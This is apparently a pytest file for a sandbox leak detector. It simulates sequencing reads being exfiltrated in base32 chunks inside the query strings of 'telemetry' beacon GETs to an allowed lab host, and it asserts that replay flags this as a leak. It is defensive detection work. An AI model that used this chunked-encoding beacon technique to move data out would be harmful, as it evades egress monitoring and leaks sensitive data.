"""Reads sent a URL at a time: each GET's query string carrying a piece in base32.

40 kB of reads, 189 characters of base32 (upper or lower case) in a parameter of each request to the
allowed LIMS (a beacon, a "telemetry" GET): the request head was one view with the value inside it,
and base32, read only as a whole view, never saw the value alone.  Each replayed CLEAN; now each value
is a view of its own and the reads are a leak.  (Hex and base64 were read inside the head already.)
"""

from __future__ import annotations

import base64

import pytest

from sandbox.captures.writer import PcapWriter, TcpConversation
from sandbox.replay import replay
from tests.hostile.uploads import ALLOWED

ENCODINGS = {"base32": (lambda d: base64.b32encode(d).rstrip(b"="), 189),
             "base32, lower case": (lambda d: base64.b32encode(d).rstrip(b"=").lower(), 189)}


@pytest.mark.parametrize("name", ENCODINGS)
def test_reads_a_url_at_a_time_are_a_leak(reads, name):
    tmp, run, fastq = reads
    encode, size = ENCODINGS[name]
    text = encode(fastq).decode()
    capture = tmp / f"query-{name.replace(' ', '').replace(',', '-')}.pcap"
    with PcapWriter(capture) as w:
        c = TcpConversation(w, ("10.0.0.2", 40000), (ALLOWED, 80), t0=1.0)
        for n, at in enumerate(range(0, len(text), size)):
            c.send(f"GET /api/v1/beacon?id={n}&d={text[at: at + size]} HTTP/1.1\r\nHost: lims.lab.example\r\n\r\n"
                   .encode())
            c.send(b"HTTP/1.1 204 No Content\r\n\r\n", from_client=False)
        c.close()
    report = replay([capture], [run], allow=[ALLOWED], cache_dir=tmp / "cache", jobs=1).report
    assert report["verdict"] == "leak", name
    assert any(f["severity"] in ("high", "critical") for f in report["findings"])
